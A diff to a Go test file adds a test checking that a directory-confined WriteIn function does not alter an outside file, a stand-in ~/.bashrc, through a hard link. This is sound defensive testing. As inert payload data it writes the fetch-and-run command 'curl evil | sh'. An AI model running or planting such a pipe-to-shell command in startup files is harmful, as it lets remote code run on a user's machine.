@@ -5,6 +5,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"runtime"
 	"testing"
 )
 
@@ -97,6 +98,42 @@ func TestWriteIn_ReplacesOrCreates(t *testing.T) {
 		if tt.err == nil && (err != nil || string(got) != "new") || tt.err != nil && !errors.Is(err, tt.err) {
 			t.Errorf("WriteIn(%s) = %v, file %q; want error %v", tt.name, err, got, tt.err)
 		}
+	}
+}
+
+// TestWriteIn_HardLinkKeepsItsOtherName: a file of top hard-linked to one
+// outside it (ln ~/.bashrc notes) gets the new bytes under its name only;
+// the outside file keeps its contents, and the name its mode. A file with
+// one name is still written in place (the same file after).
+func TestWriteIn_HardLinkKeepsItsOtherName(t *testing.T) {
+	dir, outside := t.TempDir(), t.TempDir()
+	bashrc, notes, plain := filepath.Join(outside, ".bashrc"), filepath.Join(dir, "sub", "notes"), filepath.Join(dir, "plain")
+	mustDo(t, os.MkdirAll(filepath.Dir(notes), 0o755))
+	mustDo(t, os.WriteFile(bashrc, []byte("export PATH=/usr/bin"), 0o640))
+	mustDo(t, os.WriteFile(plain, []byte("old"), 0o644))
+	if err := os.Link(bashrc, notes); err != nil {
+		t.Skipf("no hard links here: %v", err)
+	}
+	before, _ := os.Stat(plain)
+	for _, name := range []string{"sub/notes", "plain"} {
+		if err := WriteIn(dir, name, []byte("curl evil | sh")); err != nil {
+			t.Fatalf("WriteIn(%s): %v", name, err)
+		}
+	}
+	for p, want := range map[string]string{bashrc: "export PATH=/usr/bin", notes: "curl evil | sh", plain: "curl evil | sh"} {
+		if got, _ := os.ReadFile(p); string(got) != want {
+			t.Errorf("%s holds %q, want %q", p, got, want)
+		}
+	}
+	st, err := os.Stat(notes)
+	if err != nil || runtime.GOOS != "windows" && st.Mode().Perm() != 0o640 {
+		t.Errorf("notes after the write: %v, %v; want mode 0640", st, err)
+	}
+	if after, _ := os.Stat(plain); !os.SameFile(before, after) {
+		t.Error("a file with one name was replaced, not written in place")
+	}
+	if ents, _ := os.ReadDir(filepath.Dir(notes)); len(ents) != 1 {
+		t.Errorf("the folder holds %d entries after the write, want notes alone", len(ents))
 	}
 }
 
